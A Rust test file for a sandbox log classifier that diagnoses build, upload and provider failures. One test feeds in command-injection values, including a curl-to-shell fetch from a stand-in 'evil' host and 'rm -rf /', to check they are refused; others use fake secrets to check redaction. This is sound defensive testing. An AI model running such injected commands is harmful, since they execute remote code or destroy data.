//! How the classifier reads real-world output shapes: phases, facts, hostile lines,
//! terminal effects, versions and warnings.

use sandbox_triage_core::{classify, classify_provider, Engine, Kind, Options, Phase, ProviderFailure, Stage, Version};

fn run(stage: Stage, options: Options, text: &str) -> sandbox_triage_core::Diagnosis {
    let rules = crate::support::rules(stage);
    classify(rules, options, text.as_bytes())
}

fn create(text: &str) -> sandbox_triage_core::Diagnosis {
    run(Stage::SandboxCreate, Options::default(), text)
}

#[test]
fn the_last_built_image_line_wins_and_hostile_ones_are_refused() {
    let log = "Building image openshell/sandbox-from:1786000000 from /tmp/b/Dockerfile\n  Step 3/9 : RUN echo 'Built image evil/x:1'\n  Built image evil/x:1\n  Built image x;curl${IFS}evil|sh\n  Built image openshell/sandbox-from:1786000000\n  Built image $(id)\n  Built image `id`\n  Built image sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n  Built image\nnext-line-token\n";
    let d = create(log);
    assert_eq!(d.built_image_ref.map(|r| r.to_string()).as_deref(), Some("openshell/sandbox-from:1786000000"));
}

#[test]
fn built_image_beats_successfully_tagged() {
    let d = create("  Successfully tagged openshell/sandbox-from:1\n  Built image openshell/sandbox-from:2\n");
    assert_eq!(d.built_image_ref.map(|r| r.to_string()).as_deref(), Some("openshell/sandbox-from:2"));
    let d = create("Successfully tagged openshell/sandbox:tag1;rm -rf /\n");
    assert_eq!(d.built_image_ref, None);
}

#[test]
fn ansi_colour_and_progress_rewrites_do_not_hide_messages() {
    let d = create("\x1b[1m\x1b[31mError:\x1b[0m   × \x1b[1mfailed to read image\x1b[0m export stream\r\n");
    assert_eq!(d.kind, Kind::ImageTransferTimeout);
    assert!(!d.evidence.iter().any(|e| e.text.contains('\x1b')), "{:?}", d.evidence);
    let d = create("Exported 10%\rExported 90%\rinvalid peer certificate: BadSignature\n");
    assert_eq!(d.kind, Kind::TlsCertMismatch);
    assert_eq!(d.evidence[0].text, "invalid peer certificate: BadSignature");
}

#[test]
fn a_tls_interception_during_the_build_is_a_build_network_failure() {
    let log = "  Step 5/20 : RUN curl -fsSL https://example.com/install.sh | sh\n  curl: (60) SSL certificate problem: unable to get local issuer certificate\n  The command '/bin/sh -c curl -fsSL https://example.com/install.sh | sh' returned a non-zero code: 60\n";
    let d = create(log);
    assert_eq!(d.kind, Kind::BuildStepNetworkFailed);
    assert_eq!(d.phase, Some(Phase::Build));
    let step = d.failed_step.expect("a failed step");
    assert_eq!((step.number, step.total), (Some(5), Some(20)));
    assert_eq!(step.command.as_deref(), Some("/bin/sh -c curl -fsSL https://example.com/install.sh | sh"));
}

#[test]
fn buildkit_and_buildah_failures_name_their_step() {
    let d = create("#7 [3/6] RUN make\n#7 0.31 make: *** [all] Error 2\nERROR: failed to solve: process \"/bin/sh -c make\" did not complete successfully: exit code: 2\n");
    assert_eq!(d.kind, Kind::BuildStepFailed);
    let step = d.failed_step.expect("a failed step");
    assert_eq!((step.number, step.total, step.command.as_deref()), (Some(3), Some(6), Some("/bin/sh -c make")));

    let d = create("STEP 2/5: RUN npm ci\nnpm error code EAI_AGAIN\nnpm error request to https://registry.npmjs.org/x failed, reason: getaddrinfo EAI_AGAIN registry.npmjs.org\nError: building at STEP \"RUN npm ci\": while running runtime: exit status 1\n");
    assert_eq!(d.kind, Kind::BuildStepNetworkFailed);
    assert_eq!(d.engine, Some(Engine::Podman));
    assert_eq!(d.failed_step.and_then(|s| s.command).as_deref(), Some("RUN npm ci"));
}

#[test]
fn the_base_image_pull_disk_and_platform_failures_are_their_own_kinds() {
    let d = create("  Step 1/9 : FROM nvcr.io/private/base:1\n  pull access denied for nvcr.io/private/base, repository does not exist or may require 'docker login'\nError:   × Docker build failed: pull access denied\n");
    assert_eq!(d.kind, Kind::BuildBaseImagePullFailed);
    let d = create("  Step 6/9 : RUN pip install torch\n  ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device\n  The command '/bin/sh -c pip install torch' returned a non-zero code: 1\n");
    assert_eq!(d.kind, Kind::DiskFull);
    assert_eq!(d.phase, Some(Phase::Build));
    let d = create("  Step 4/9 : RUN /opt/tool --version\n  exec /opt/tool: exec format error\n  The command '/bin/sh -c /opt/tool --version' returned a non-zero code: 1\n");
    assert_eq!(d.kind, Kind::PlatformMismatch);
    // Docker's emulation warning alone is not a failure.
    let d = create("WARNING: The requested image's platform (linux/amd64) does not match the detected host platform (linux/arm64/v8) and no specific platform was requested\n");
    assert_eq!(d.kind, Kind::Unknown);
}

#[test]
fn warnings_are_not_failures() {
    let d = create("WARNING: Connection reset by peer while fetching metadata, retrying\n");
    assert_eq!(d.kind, Kind::Unknown);
    let d = create("npm warn network request to https://registry.npmjs.org failed, reason: getaddrinfo ENOTFOUND\n");
    assert_eq!(d.kind, Kind::Unknown);
}

#[test]
fn a_reset_during_the_upload_is_a_transfer_reset_and_names_the_gateway() {
    let log = "Building image openshell/sandbox-from:1 from ./Dockerfile\n  Gateway: dev-gw\n  Built image openshell/sandbox-from:1\n  Pushing image openshell/sandbox-from:1 into gateway \"dev-gw\"\n  [progress] Exported 1200 MiB\nError:   × transport error\n  ├─▶ Connection reset by peer (os error 104)\n";
    let d = create(log);
    assert_eq!(d.kind, Kind::ImageTransferReset);
    assert_eq!(d.phase, Some(Phase::Export));
    assert_eq!(d.gateway.as_deref(), Some("dev-gw"));
    assert_eq!(d.exported_mib, Some(1200));
}

#[test]
fn docker_wording_of_the_upload_404_names_any_gateway() {
    let log = "  Built image openshell/sandbox-from:5\n  Pushing image openshell/sandbox-from:5 into gateway \"spark\"\nError:   × failed to upload image tar into container\n  ╰─▶ Docker responded with status code 404: No such container: openshell-cluster-spark\n";
    let d = create(log);
    assert_eq!(d.kind, Kind::ImageUploadContainerMissing);
    assert_eq!(d.engine, Some(Engine::Docker));
    assert_eq!(d.gateway.as_deref(), Some("spark"));
}

#[test]
fn a_stalled_import_stays_unknown_in_the_import_phase() {
    let d = create("  [progress] Exported 3000 MiB\n  [progress] Uploaded to gateway\n");
    assert_eq!(d.kind, Kind::Unknown);
    assert_eq!(d.phase, Some(Phase::Import));
    assert!(d.uploaded_to_gateway);
    assert!(d.explanation.contains("import"), "{}", d.explanation);
    assert_eq!(d.evidence.len(), 1);
}

#[test]
fn messages_a_version_cannot_print_are_not_matched() {
    let options = Options { openshell_version: Some("0.0.50".parse::<Version>().expect("version")), ..Options::default() };
    let d = run(Stage::SandboxCreate, options, "Error: failed to upload image tar into container\n");
    assert_eq!(d.kind, Kind::Unknown);
    let options = Options { openshell_version: Some("0.0.36".parse::<Version>().expect("version")), ..Options::default() };
    let d = run(Stage::SandboxCreate, options, "Error: failed to upload image tar into container\n");
    assert_eq!(d.kind, Kind::ImageUploadContainerMissing);
}

#[test]
fn an_error_after_created_sandbox_is_incomplete_with_its_evidence() {
    let d = create("\nCreated sandbox: demo\n\n  [0.1s] Sandbox allocated\n  [0.2s] Image pulled\nError:   × sandbox provisioning stream ended before reaching terminal phase\n");
    assert_eq!(d.kind, Kind::SandboxCreateIncomplete);
    assert_eq!(d.phase, Some(Phase::Ready));
    assert!(d.uploaded_to_gateway);
    assert!(d.evidence.iter().any(|e| e.text.contains("stream ended")));
    let d = run(Stage::SandboxCreate, Options { exit_status: Some(0), ..Options::default() }, "Created sandbox: demo\n");
    assert_eq!(d.kind, Kind::None);
}

#[test]
fn secrets_never_reach_the_evidence() {
    let log = "  Step 3/5 : RUN NVIDIA_API_KEY=nvapi-abcdefghijklmnopqrstuvwxyz curl https://user:hunter2@proxy.example.com/x\n  curl: (6) Could not resolve host: proxy.example.com\n  The command '/bin/sh -c NVIDIA_API_KEY=nvapi-abcdefghijklmnopqrstuvwxyz curl https://user:hunter2@proxy.example.com/x' returned a non-zero code: 6\n";
    let d = create(log);
    assert_eq!(d.kind, Kind::BuildStepNetworkFailed);
    let json = sandbox_triage_core::diagnosis_json(&d);
    let human = sandbox_triage_core::diagnosis_human(&d, sandbox_triage_core::Style::default());
    for out in [json, human] {
        assert!(!out.contains("abcdefghijklmnopqrstuvwxyz") && !out.contains("hunter2"), "{out}");
    }
}

#[test]
fn the_gateway_migration_rule_follows_miette_wrapping_only_nearby() {
    let d = run(
        Stage::GatewayStart,
        Options::default(),
        "Error:   × execution error: migration error: migration 4 was previously applied but\n  │ has been modified\n",
    );
    assert_eq!(d.kind, Kind::DatabaseMigrationIncompatible);
    let far = format!("migration 4 was previously applied\n{}has been modified\n", "noise\n".repeat(20));
    assert_eq!(run(Stage::GatewayStart, Options::default(), &far).kind, Kind::Unknown);
}

#[test]
fn provider_validation_follows_nemoclaw_order() {
    let p = |http: Option<u16>, curl: Option<i32>, message: &str| {
        let rules = crate::support::rules(Stage::ProviderValidation);
        let d = classify_provider(rules, &ProviderFailure { message, http_status: http, curl_status: curl });
        (d.kind, d.retry.map(|r| format!("{r:?}").to_lowercase()).unwrap_or_default())
    };
    assert_eq!(p(None, Some(7), ""), (Kind::Transport, "retry".into()));
    assert_eq!(p(Some(429), None, ""), (Kind::Transport, "retry".into()));
    assert_eq!(p(Some(502), None, ""), (Kind::Transport, "retry".into()));
    assert_eq!(p(Some(401), None, ""), (Kind::Credential, "credential".into()));
    assert_eq!(p(Some(400), None, "API key expired. Please renew the API key."), (Kind::Credential, "credential".into()));
    assert_eq!(p(Some(400), None, "API_KEY_INVALID"), (Kind::Credential, "credential".into()));
    assert_eq!(p(Some(400), None, ""), (Kind::Model, "model".into()));
    assert_eq!(p(Some(400), None, "model xyz not found"), (Kind::Model, "model".into()));
    assert_eq!(p(None, None, "model xyz   not\nfound"), (Kind::Model, "model".into()));
    assert_eq!(p(Some(404), None, ""), (Kind::Endpoint, "selection".into()));
    assert_eq!(p(Some(404), None, "HTTP 404: model not found"), (Kind::Model, "model".into()));
    assert_eq!(p(None, None, "Unauthorized access"), (Kind::Credential, "credential".into()));
    assert_eq!(p(Some(418), None, ""), (Kind::Unknown, "selection".into()));
    assert_eq!(p(None, None, ""), (Kind::Unknown, "selection".into()));
    assert_eq!(p(None, None, "transport error: invalid peer certificate: UnknownIssuer"), (Kind::Transport, "retry".into()));
    assert_eq!(p(None, None, "TLS handshake failure"), (Kind::Transport, "retry".into()));
}
